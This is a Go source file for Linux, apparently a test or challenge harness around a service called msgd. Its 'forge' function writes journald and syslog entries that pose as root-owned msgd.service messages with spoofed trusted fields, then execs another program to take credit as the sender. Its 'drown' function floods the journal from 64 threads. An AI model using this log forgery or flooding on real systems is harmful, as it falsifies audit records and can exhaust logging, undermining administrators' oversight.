//go:build linux

package main

import (
	"errors"
	"fmt"
	"os"
	"strconv"
	"strings"
	"sync"
	"sync/atomic"
	"syscall"
	"time"

	"golang.org/x/sys/unix"
)

// The ways into journald.
const (
	journal = "/run/systemd/journal/socket"
	syslog  = "/dev/log"
	stream  = "/run/systemd/journal/stdout"
)

// forge writes to the log, in all ways, what looks like an entry of msgd's with that text. Then
// this process becomes another program, which journald may take for the sender.
func forge(text string, program []string) error {
	fields := []string{
		"MESSAGE=" + text, "PRIORITY=6", "SYSLOG_FACILITY=10", "SYSLOG_IDENTIFIER=msg", "SYSLOG_PID=1", "MSG_UID=0", "MSG_SENDER=root",
		"UNIT=msgd.service", "OBJECT_SYSTEMD_UNIT=msgd.service", "COREDUMP_UNIT=msgd.service", "OBJECT_PID=1",
		"_SYSTEMD_UNIT=msgd.service", "_SYSTEMD_CGROUP=/system.slice/msgd.service", "_UID=0", "_GID=0", "_PID=1", "_COMM=msgd-judge", "_TRANSPORT=journal",
	}
	err := errors.Join(
		sendTo(journal, strings.Join(fields, "\n")+"\n"),
		sendTo(journal, strings.Join(fields[:8], "\n")+"\n"),
		sendTo(syslog, "<86>msg[1]: "+text),
	)
	if err != nil {
		return err
	}
	lines, err := connect(stream)
	if err != nil {
		return err
	}
	// Identifier, unit, priority, and whether to cut off a priority and pass on to syslog, kmsg and
	// the console (server_stdout in systemd's journald-stream.c).
	if _, err := unix.Write(lines, []byte("msg\nmsgd.service\n6\n0\n0\n0\n0\n"+text+"\n")); err != nil {
		return err
	}
	if err := unclose(lines); err != nil {
		return err
	}
	return syscall.Exec(program[0], program, os.Environ())
}

func sendTo(path, datagram string) error {
	fd, err := unix.Socket(unix.AF_UNIX, unix.SOCK_DGRAM|unix.SOCK_CLOEXEC, 0)
	if err != nil {
		return err
	}
	defer unix.Close(fd)
	return unix.Sendto(fd, []byte(datagram), 0, &unix.SockaddrUnix{Name: path})
}

// unclose has what this process becomes keep the descriptor.
func unclose(fd int) error {
	_, err := unix.FcntlInt(uintptr(fd), unix.F_SETFD, 0)
	return err
}

// drown writes to the log from many threads for some seconds, as fast as they can, and prints how
// many entries that were.
func drown(seconds string) error {
	n, err := strconv.Atoi(seconds)
	if err != nil {
		return err
	}
	end := time.Now().Add(time.Duration(n) * time.Second)
	var sent atomic.Int64
	var all sync.WaitGroup
	for i := range 64 {
		all.Go(func() {
			path := journal
			if i%8 == 0 {
				path = syslog
			}
			for time.Now().Before(end) {
				if sendTo(path, "SYSLOG_IDENTIFIER=flood\nMESSAGE=flood\n") == nil {
					sent.Add(1)
				}
			}
		})
	}
	all.Wait()
	_, err = fmt.Println(sent.Load())
	return err
}
